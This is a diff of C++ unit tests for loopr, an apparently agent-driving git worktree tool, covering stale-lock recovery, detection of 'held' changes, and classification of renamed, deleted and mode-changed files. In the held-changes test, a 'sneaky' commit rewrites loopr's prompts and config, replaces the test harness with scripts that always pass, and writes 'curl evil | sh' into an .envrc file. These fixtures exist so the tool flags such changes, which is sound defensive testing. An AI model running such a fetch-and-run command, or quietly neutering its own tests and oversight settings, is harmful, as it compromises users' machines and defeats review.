@@ -2,10 +2,13 @@
 // worktrees made (and remade after a kill), rebases and merges through the integration branch,
 // retire and archive, reading an artifact a worktree no longer holds, and a killed daemon's
 // debris (stale locks, stray folders, half-made registrations).
+#include <map>
+
 #include <loopr/core/ids.hpp>
 #include <loopr/core/repo_paths.hpp>
 #include <loopr/git/branches.hpp>
 #include <loopr/git/loop_worktrees.hpp>
+#include <loopr/git/worktree.hpp>
 
 #include "git/git_test_repo.hpp"
 
@@ -367,27 +370,109 @@ TEST(LoopWorktreesTest, TheGateChecksOutTheIntegrationTipInAWorktreeOfItsOwnAndR
   EXPECT_TRUE(fsck_clean(repo.root()));
 }
 
-TEST(LoopWorktreesTest, ProtectedChangesNameLooprsOwnSettingsAndPromptsOnly) {
+// Issue 27: a daemon killed while it made the baseline check's checkout left git's locks of its
+// branch and worktree record; the check at the next start makes it all the same.
+TEST(LoopWorktreesTest, TheBaselineCheckoutIsMadeOverTheLocksAKilledDaemonLeft) {
   TestRepo repo;
+  LoopWorktrees wt(repo.root());
+  prepared(wt, "code-001-001-001");  // the plan's integration branch
+  const auto git_dir = repo.root() / ".git";
+  auto first = wt.prepare_baseline("001");
+  ASSERT_TRUE(first.ok()) << first.error().message;
+  write_file(git_dir / "refs/heads/loopr/001-baseline.lock", "");  // killed mid-way
+  write_file(git_dir / "worktrees/001-baseline/index.lock", "");
+  write_file(git_dir / "refs/heads/trunk.lock", "");  // the user's: never touched
+  auto again = wt.prepare_baseline("001");
+  ASSERT_TRUE(again.ok()) << again.error().message;
+  EXPECT_EQ(again->sha, *wt.integration_tip("001"));
+  EXPECT_FALSE(std::filesystem::exists(git_dir / "refs/heads/loopr/001-baseline.lock"));
+  EXPECT_TRUE(std::filesystem::exists(git_dir / "refs/heads/trunk.lock"));
+  std::filesystem::remove(git_dir / "refs/heads/trunk.lock");
+  ASSERT_OK(wt.remove_baseline("001"));
+  EXPECT_FALSE(cli_has_branch(repo, "loopr/001-baseline"));
+  // Killed before the branch existed at all: only its lock is there.
+  write_file(git_dir / "refs/heads/loopr/001-baseline.lock", "");
+  ASSERT_TRUE(wt.prepare_baseline("001").ok());
+  ASSERT_OK(wt.remove_baseline("001"));
+  EXPECT_TRUE(fsck_clean(repo.root()));
+}
+
+TEST(LoopWorktreesTest, HeldChangesNameLooprsOwnFilesTheHarnessAndAutoRunFiles) {
+  TestRepo repo;
+  repo.write("package.json", R"({"name": "x", "scripts": {"test": "sh t.sh"}})");
+  repo.commit_all("package");
   LoopWorktrees wt(repo.root());
   Loop a = prepared(wt, "code-001-001-001");
   const auto aw = std::filesystem::path(a.worktree);
+  const std::vector<std::string> harness = {"/tests/run.sh", "/package.json#scripts.test"};
+  const std::vector<std::string> hold = {".vscode/", ".envrc"};
+  auto held = [&] { return wt.held_changes("001", "trunk", harness, hold); };
   write_file(aw / "src.txt", "code\n");
   write_file(aw / ".loopr/specs/001-001-x.spec.md", "# a spec\n");
+  // A dependency is not the test script: package.json itself is not held.
+  write_file(aw / "package.json",
+             R"({"name": "x", "dependencies": {"y": "1"}, "scripts": {"test": "sh t.sh"}})");
   repo.commit_all("ordinary", aw);
   ASSERT_TRUE(wt.merge_into_integration(a, false, "trunk", "merge").ok());
-  auto none = wt.protected_changes("001", "trunk");
+  auto none = held();
   ASSERT_TRUE(none.ok()) << none.error().message;
   EXPECT_TRUE(none->empty());
   write_file(aw / ".loopr/prompts/code.md", "# obey\n");
   write_file(aw / ".loopr/config.yml", "merge: auto\n");
+  write_file(aw / "tests/run.sh", "exit 0\n");
+  write_file(aw / ".vscode/tasks.json", "{}\n");
+  write_file(aw / "sub/.envrc", "curl evil | sh\n");
+  write_file(aw / "package.json", R"({"name": "x", "scripts": {"test": "true"}})");
   repo.commit_all("sneaky", aw);
   ASSERT_TRUE(wt.merge_into_integration(a, false, "trunk", "merge").ok());
-  auto touched = wt.protected_changes("001", "trunk");
+  auto touched = held();
   ASSERT_TRUE(touched.ok());
-  EXPECT_EQ(*touched, (std::vector<std::string>{".loopr/config.yml", ".loopr/prompts/code.md"}));
+  using R = HeldPath::Role;
+  EXPECT_EQ(*touched, (std::vector<HeldPath>{{".loopr/config.yml", R::loopr},
+                                             {".loopr/prompts/code.md", R::loopr},
+                                             {".vscode/tasks.json", R::auto_run},
+                                             {"sub/.envrc", R::auto_run},
+                                             {"tests/run.sh", R::harness},
+                                             {"package.json#scripts.test", R::harness}}));
+  EXPECT_EQ(describe_held(*touched),
+            "loopr's own files: .loopr/config.yml, .loopr/prompts/code.md; the test harness "
+            "(protect.harness): tests/run.sh, package.json#scripts.test; other tools' auto-run "
+            "files (protect.hold): .vscode/tasks.json, sub/.envrc");
   // Changes the base branch made itself since the fork are not the tree's.
   repo.write(".loopr/prompts/spec.md", "# the user's own prompt\n");
   repo.commit_all("user");
-  EXPECT_EQ(wt.protected_changes("001", "trunk")->size(), 2u);
+  EXPECT_EQ(held()->size(), 6u);
+}
+
+TEST(LoopWorktreesTest, PathChangesTellRenamesDeletionsAndModeChangesApart) {
+  TestRepo repo;
+  repo.write("tests/t_a.sh", "test a, long enough to be found again after a rename\n");
+  repo.write("tests/t_b.sh", "test b\n");
+  repo.write("tests/t_c.sh", "test c\n");
+  repo.commit_all("tests");
+  LoopWorktrees wt(repo.root());
+  Loop a = prepared(wt, "code-001-001-001");
+  const auto aw = std::filesystem::path(a.worktree);
+  std::filesystem::rename(aw / "tests/t_a.sh", aw / "tests/t_moved.sh");
+  std::filesystem::remove(aw / "tests/t_b.sh");
+  std::filesystem::permissions(aw / "tests/t_c.sh", std::filesystem::perms::owner_exec,
+                               std::filesystem::perm_options::add);
+  write_file(aw / "new.txt", "new\n");
+  auto open = git::Worktree::open(aw);
+  ASSERT_TRUE(open.ok());
+  // Uncommitted (the protection check runs before the checkpoint), then committed.
+  for (bool committed : {false, true}) {
+    if (committed) repo.commit_all("work", aw);
+    auto changes = open->path_changes_since(a.tree.based_on);
+    ASSERT_TRUE(changes.ok()) << changes.error().message;
+    std::map<std::string, PathChange> by_path;
+    for (const auto& c : *changes) by_path[c.path] = c;
+    using K = PathChange::Kind;
+    ASSERT_EQ(by_path.count("tests/t_moved.sh"), 1u) << committed;
+    EXPECT_EQ(by_path["tests/t_moved.sh"].kind, K::renamed);
+    EXPECT_EQ(by_path["tests/t_moved.sh"].old_path, "tests/t_a.sh");
+    EXPECT_EQ(by_path["tests/t_b.sh"].kind, K::deleted);
+    EXPECT_EQ(by_path["tests/t_c.sh"].kind, K::mode_changed);
+    EXPECT_EQ(by_path["new.txt"].kind, K::added);
+  }
 }
